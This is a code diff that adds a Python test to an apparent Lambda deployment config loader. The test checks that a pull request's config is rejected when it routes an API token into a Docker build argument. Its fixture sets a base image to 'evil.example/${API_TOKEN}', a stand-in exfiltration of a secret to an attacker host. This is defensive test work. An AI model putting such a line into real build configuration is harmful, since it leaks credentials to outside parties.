@@ -451,6 +451,25 @@ def test_when_a_run_only_plans_it_knows_why(
     assert settings.plan_only == reason
 
 
+def test_before_the_merge_a_secret_goes_where_nobody_is_told_of_it(root: Path) -> None:
+    text = ZIP.replace("    zip:", "    environment: {KEY: '${API_TOKEN}'}\n    zip:", 1)
+    text += "bases: {b: {dockerfile: D, build-args: {FROM: 'evil.example/${API_TOKEN}'}}}\n"
+    (root / "D").write_text("ARG FROM\nFROM ${FROM}\n")
+    environ = {"AWS_REGION": "us-east-1", "API_TOKEN": "hidden-value"}
+    (root / "lambda-deploy.yml").write_text(text)
+
+    def load_for(event: Event) -> Settings:
+        return load(Given({}, {}), environ, event, root, lambda: REGIONS)
+
+    assert load_for(Event()).functions
+    with pytest.raises(Invalid) as refused:
+        load_for(Event(unmerged="a pull request"))
+    (problem,) = refused.value.problems
+    assert str(problem).startswith("lambda-deploy.yml:")
+    assert "API_TOKEN is a secret by its name; before it is merged" in str(problem)
+    assert problem.place.line == text.count("\n")
+
+
 def test_a_dry_run_that_is_neither_true_nor_false_deploys_nothing(root: Path) -> None:
     assert problems(root, ZIP, {"dry-run": "yes"}) == [
         "input dry-run: expected true or false, got 'yes'"
